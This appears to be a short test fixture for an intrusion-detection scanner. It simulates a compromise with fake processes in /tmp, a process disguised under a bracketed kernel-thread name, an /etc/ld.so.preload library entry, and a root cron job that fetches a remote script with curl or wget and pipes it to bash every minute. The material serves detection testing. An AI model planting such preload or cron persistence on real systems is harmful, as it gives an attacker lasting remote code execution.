# id: C13
# mode: scan
# level: suspicious
# due: now
# network: world
# title: two programs in /tmp, a library for every program and cron that fetches them
. "$here/intruder.sh"
word one
word two
word library
wait_for reaches_world >/dev/null
for name in "$one" "$two"; do cp /bin/sleep "/tmp/$name"; done
start "/tmp/$one" 100000
said pid "$pid"
start -a "[$two]" "/tmp/$two" 100000
said pid "$pid"
cp "$here/empty.so" "/etc/lib$library.so"
echo "/etc/lib$library.so" >/etc/ld.so.preload
said path /etc/ld.so.preload
crontab_of root "* * * * * (curl -s http://$far/t.sh || wget -q -O - http://$far/t.sh) | bash > /dev/null 2>&1"
said restarter path /var/spool/cron/crontabs/root
